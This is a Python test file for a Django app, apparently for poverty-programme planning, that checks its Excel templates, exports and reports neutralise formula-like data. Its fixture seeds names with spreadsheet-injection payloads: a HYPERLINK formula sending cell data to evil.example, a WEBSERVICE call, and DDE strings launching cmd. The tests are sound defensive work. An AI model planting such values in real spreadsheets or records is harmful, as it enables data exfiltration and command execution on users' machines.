"""Every workbook the app offers, built from data that looks like formulas, holds no formula
the app did not put there (issue 21, finding 3): the Excel templates of every kind, a table
export, the meeting report and the targeting check."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bartim.models import ReviewStatus
from helpers.exports import FORMULA_STARTS
from tests.excel_helpers import download, preview_url, upload, xlsx_bytes
from tests.factories import (
    AgencyFactory,
    IndicatorFactory,
    IndicatorValueFactory,
    PovertyStatisticFactory,
    ProgramFactory,
    StrategyFactory,
    VillageDataFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = {
    "programme": HYPERLINK,
    "description": "+cmd|' /C calc'!A0",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "indicator": "=1+2",
    "agency": "-2+3+cmd|' /C calc'!A0",
    "abbreviation": "=DINSOS()",
    "village": '=WEBSERVICE("http://evil.example/")',
    "district": "@kecamatan",
}


@pytest.fixture
def hostile(agency_a, village_x, district_x):
    agency_a.name = HOSTILE["agency"]
    agency_a.abbreviation = HOSTILE["abbreviation"]
    agency_a.save()
    village_x.name = HOSTILE["village"]
    village_x.save()
    district_x.name = HOSTILE["district"]
    district_x.save()
    strategy = StrategyFactory(number=1)
    StrategyFactory(number=2)
    StrategyFactory(number=3)
    # Submitted: still in the administrator's templates, and counted by the leaders' pages
    # under "all submitted", which their workbooks below ask for.
    program = ProgramFactory(
        status=ReviewStatus.SUBMITTED,
        agency=agency_a,
        strategy=strategy,
        year=2024,
        name=HOSTILE["programme"],
        description=HOSTILE["description"],
        budget_ceiling=1_000_000_000,
        budget_realized_q1=10_000_000,
    )
    program.target_villages.set([village_x])
    indicator = IndicatorFactory(
        program=program, name=HOSTILE["indicator"], unit=HOSTILE["unit"], target=100
    )
    IndicatorValueFactory(indicator=indicator, quarter=1, target=25, realized=1)
    # Returned to the camat: in his template, and counted (marked) under "all submitted".
    VillageDataFactory(
        status=ReviewStatus.RETURNED,
        village=village_x,
        year=2024,
        population=1000,
        poor_people=500,
        poor_households=150,
    )
    PovertyStatisticFactory(year=2024)
    return program


def live_formulas(content: bytes) -> list[str]:
    """Every cell, of every sheet, hidden ones included, that a spreadsheet would run."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value.startswith(FORMULA_STARTS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {value!r}")
    return found


def texts(content: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _template(client, kind, **params):
    response = client.get(reverse("spreadsheets:template", args=[kind]), params)
    assert response.status_code == 200
    return response.content


WORKBOOKS = {
    "quarterly template": lambda c: _template(c, "quarterly", year=2024, quarter=1),
    "village data template": lambda c: _template(c, "village-data", year=2024),
    "programmes template": lambda c: _template(c, "programs", year=2024),
    "bps template": lambda c: _template(c, "bps"),
    "programmes table export": lambda c: (
        c.get(reverse("programs:program_list"), {"year": 2024, "_export": "xlsx"}).content
    ),
    "indicators table export": lambda c: (
        c.get(reverse("programs:indicator_list"), {"year": 2024, "_export": "xlsx"}).content
    ),
    "meeting report": lambda c: (
        c.get(
            reverse("reports:meeting_report_xlsx", args=[2024]), {"quarter": 1, "figures": "all"}
        ).content
    ),
    "targeting check": lambda c: (
        c.get(
            reverse("reports:targeting"), {"year": 2024, "_export": "xlsx", "figures": "all"}
        ).content
    ),
}
# What each workbook shows of the hostile data, so that the scan is not vacuous.
SHOWN = {
    "quarterly template": ["programme", "indicator", "unit", "abbreviation"],
    "village data template": ["village", "district"],
    "programmes template": ["programme", "description", "indicator", "unit", "agency"],
    "bps template": [],
    "programmes table export": ["programme", "abbreviation"],
    "indicators table export": ["indicator", "programme"],
    "meeting report": ["programme", "agency", "village", "district"],
    "targeting check": ["village", "district", "abbreviation"],
}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_no_workbook_turns_formula_like_data_into_a_live_formula(admin_client, hostile, name):
    content = WORKBOOKS[name](admin_client)

    assert content[:2] == b"PK", name
    assert live_formulas(content) == []
    shown = texts(content)
    for key in SHOWN[name]:
        assert any(HOSTILE[key] in text for text in shown), (name, key)


def test_a_neutralised_name_in_a_template_reads_back_as_the_name(admin_client, hostile):
    """The template writes '=HYPERLINK(...) with an apostrophe; uploading it unchanged
    matches the programme by its real name and changes nothing."""
    workbook = download(admin_client, "programs", year=2024)

    response = upload(admin_client, "programs", xlsx_bytes(workbook), name="program.xlsx")
    preview = admin_client.get(preview_url(response))

    report = preview.context["report"]
    assert report.errors == []
    assert (report.new, report.changed) == (0, 0)
    assert report.unchanged >= 1


def test_an_agency_named_like_a_formula_is_no_formula_in_the_lists_sheet(admin_client, db):
    AgencyFactory(name="=1+1")

    content = _template(admin_client, "programs", year=2024)

    assert live_formulas(content) == []
    assert "'=1+1" in texts(content)
